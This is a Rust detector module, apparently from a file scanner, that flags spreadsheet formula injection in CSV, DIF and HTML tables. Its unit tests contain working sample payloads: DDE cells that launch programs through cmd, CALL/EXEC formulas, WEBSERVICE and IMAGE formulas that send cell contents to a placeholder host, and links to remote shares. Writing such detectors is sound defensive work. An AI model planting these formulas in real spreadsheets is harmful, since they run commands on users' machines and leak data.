//! Tables as text, which spreadsheets open by their names, and cells that are formulas which run, fetch or lead somewhere.

use super::finding;
use crate::Findings;
use crate::text::{excerpt, patterns};
use lazaret_model::{Part, Severity, on_this_machine};

patterns! {
    // A formula with a DDE link, `program|'topic'!item`, or the function of LibreOffice.
    DDE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@\x{ff1d}\x{ff0b}\x{ff20}-][^\r\n]{0,200}?(?:(?:\b[a-z][a-z0-9_.]{1,30}|'[^'\r\n]{1,260}')\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
    // A topic without quotes, which looks like prose behind a sign that prose has as well.
    BARE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}(?:[=@\x{ff1d}][^\r\n,;\t"]{0,200}?\b[a-z][a-z0-9_.]{1,30}\|[a-z0-9_./\\:-]{1,100}!['$]{0,2}[a-z]|[+-][0-9+*/.() -]{0,40}\b[a-z][a-z0-9_.]{1,30}\|[a-z0-9_./\\:-]{1,100}!['$]{0,2}[a-z]{1,3}\$?[0-9])"#;
    // Values of a workbook on a share.
    BOOK_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?'(?P<place>(?:file:|\\\\)[^'\r\n]{1,300})'\s*!"#;
    // A picture whose address is put together of what the table holds.
    IMAGE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\bimage\(\s*(?:["']{1,2}https?:[^"'\r\n]{0,300}["']{1,2}\s*&|concat|textjoin)"#;
    // Functions that call a library or run a program, and such as fetch. After a sign that prose has as well, only numbers come before.
    CALL_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n,;\t]{0,200}?|[=@][^\r\n\t]{0,100}?[a-z]\([^\r\n\t]{0,100}?[,;(]\s{0,9}|[+-][0-9+*/.() -]{0,40})\b(?:call|register(?:\.id)?|exec)\(["']"#;
    FETCH_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:webservice|rtd|importdata|importxml|importhtml|importfeed|importrange)\(["'a-z]"#;
    // The same in a cell of a page, which spreadsheets open as a table.
    PAGE_CELL = r#"(?i)>\s{0,20}[=@][^<\r\n]{0,200}?\b(?:call|register(?:\.id)?|exec|webservice|rtd)\((?:["'a-z]|&quot;)"#;
    LINK_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?\bhyperlink\s*\(\s*(?:["']|&quot;){0,4}\s*(?P<place>(?:file:|\\\\)[^"'&\r\n]{1,300})"#;
    PROGRAM = r"(?i)\.(?:exe|com|scr|bat|cmd|ps1|vbs|jse?|wsf|hta|lnk|msi|jar)\s*$";
}

/// Tables as text, which spreadsheets open by their names.
pub(super) fn wants(part: &Part) -> bool {
    part.is("csv")
        || (part.is("text") || part.is("html"))
            && matches!(&*part.extension(), "csv" | "tsv" | "tab" | "slk" | "dif" | "xls")
}

/// Looks at the cells of a table.
pub(super) fn look(part: &Part, text: &str, findings: &mut Findings) {
    if let Some(value) = excerpt(&DDE_CELL, text).or_else(|| excerpt(&BARE_CELL, text)) {
        let message = "a cell of the table asks another program to run a command (DDE)";
        findings.add(finding("document.dde-cell", Severity::High, message, &value).technique("T1559.002"));
    }
    let page = part.is("html");
    let called = if page { None } else { excerpt(&CALL_CELL, text) };
    if let Some(value) = called {
        let message = "a cell of the table calls a library or runs a program";
        findings.add(finding("document.active-cell", Severity::High, message, &value).technique("T1204.002"));
    }
    let fetched = excerpt(if page { &PAGE_CELL } else { &FETCH_CELL }, text);
    if let Some(value) = fetched.or_else(|| excerpt(&IMAGE_CELL, text)) {
        let message = "a cell of the table fetches something, or sends something away, when the table is opened";
        findings.add(finding("document.active-cell", Severity::Medium, message, &value).technique("T1204.002"));
    }
    let mut books = BOOK_CELL.captures_iter(text).filter_map(|found| found.name("place")).map(|place| place.as_str());
    if let Some(place) = books.find(|place| !on_this_machine(place)) {
        let message = "a cell of the table takes its value of a file on another machine";
        findings.add(finding("document.active-cell", Severity::Medium, message, place).technique("T1187"));
    }
    let mut places = LINK_CELL.captures_iter(text).filter_map(|found| found.name("place")).map(|place| place.as_str());
    if let Some(place) = places.find(|place| !on_this_machine(place) || PROGRAM.is_match(place)) {
        let message = "a link in a cell of the table leads to another machine's files or to a program";
        let found = finding("document.active-cell", Severity::Medium, message, place).technique("T1187");
        findings.add(found.technique("T1204.002"));
    }
}

#[cfg(test)]
mod tests {
    use super::super::Documents;
    use crate::detectors::test_part::{check, check_part, part};
    use lazaret_model::{Class, Kind};

    #[test]
    fn cells_that_run_commands_are_found() {
        const CELL: &str = "document.dde-cell high";
        for (text, expected) in [
            ("a,b\n=cmd|'/c calc'!A1,2\n", &[CELL][..]),
            ("a;\"=2+5+cmd|' /C calc'!A0\"\n", &[CELL]),
            ("@SUM(1+1)*cmd|'/C calc'!A0\n", &[CELL]),
            ("-3+MSEXCEL|'\\..\\calc.exe'!A1\n", &[CELL]),
            (r"='C:\Windows\System32\cmd.exe'|'/c calc'!A0", &[CELL]),
            ("a,=cmd|calc!A0\n", &[CELL]),
            ("\u{ff1d}cmd|'/c calc'!A0\n", &[CELL]),
            ("a,+cmd|calc!A0\n", &[CELL]),
            ("a,- yes|no!always\n+ this|that!x\n", &[]),
            ("+DDE(\"cmd\";\"/C calc\";\"x\")\n", &[CELL]),
            ("date,amount\n2026-01-05,-12.50\n,=SUM(A1:A2)\n", &[]),
            ("command,meaning\nls | wc,-counts\ncmd | more,pages\n", &[]),
        ] {
            check(&Documents, "csv", text, expected);
        }
    }

    #[test]
    fn cells_that_call_fetch_or_lead_to_a_share_are_found() {
        const CALLS: &str = "document.active-cell high";
        const FETCHES: &str = "document.active-cell medium";
        for (text, expected) in [
            ("a\n=CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)\n", &[CALLS][..]),
            ("a;\"@REGISTER(\"\"a\"\")\"\n", &[CALLS]),
            ("a\n+1+EXEC(\"calc\")\n", &[CALLS]),
            ("a,\"=IF(1,EXEC(\"\"calc\"\"),0)\"\n", &[CALLS]),
            ("a,\"=1+WEBSERVICE(\"\"https://host.invalid/?\"\"&A1)\"\n", &[FETCHES]),
            ("=IMPORTXML(A1,\"//a\")\n", &[FETCHES]),
            ("=RTD(\"a.b\",\"host.invalid\",\"c\")\n", &[FETCHES]),
            ("a,\"=HYPERLINK(\"\"\\\\host.invalid\\share\\a\"\",\"\"b\"\")\"\n", &[FETCHES]),
            ("=HYPERLINK(\"file://host.invalid/a\")\n", &[FETCHES]),
            (r"='\\host.invalid\s\[a.xls]S'!A1", &[FETCHES]),
            ("=IMAGE(\"https://host.invalid/?\"&A1)\n", &[FETCHES]),
            ("a,\"=IMAGE(\"\"https://host.invalid/?\"\"&A1)\"\n", &[FETCHES]),
            ("=HYPERLINK(\"file:///C:/Windows/System32/calc.exe\")\n", &[FETCHES]),
        ] {
            check(&Documents, "csv", text, expected);
        }
    }

    #[test]
    fn cells_of_data_interchange_files_are_looked_at() {
        let mut table = part("text");
        (table.name, table.kind) = ("prices.dif".into(), Kind::new("text", Class::Text, "text/plain"));
        let with = |cell: &str| {
            format!("TABLE\r\n0,1\r\n\"EXCEL\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n{cell}\r\n")
        };
        for (cell, expected) in [
            ("\"=cmd|' /C calc'!A0\"", &["document.dde-cell high"][..]),
            ("\"=EXEC(\"\"calc\"\")\"", &["document.active-cell high"]),
            ("\"call (\"\"Ann\"\")\"", &[]),
            ("\"=SUM(A1:A2)\"", &[]),
        ] {
            check_part(&Documents, &table, with(cell).as_bytes(), expected);
        }
    }

    #[test]
    fn what_people_write_in_cells_is_left_alone() {
        for text in [
            "a,=HYPERLINK(\"https://host.invalid/\",\"page\")\n",
            "a,=HYPERLINK(\"file:///C:/data/a.pdf\")\n",
            "a,=IMAGE(\"https://host.invalid/a.png\")\n",
            "a,=HYPERLINK(\"https://host.invalid/?id=\"&A1)\n",
            "a,='C:\\data\\[a.xls]S'!A1\n",
            "task,- call (see below)\n- register (\"new\") users\n",
            "formula,what it does\nWEBSERVICE(\"a\"),fetches\nwrite =CALL in a cell,never\n",
            "a,-exec(utive) board\n+41 44 000 00 00,call (\"Ann\")\n",
            "k=v,call(\"x\")\n",
        ] {
            check(&Documents, "csv", text, &[]);
        }
    }
}
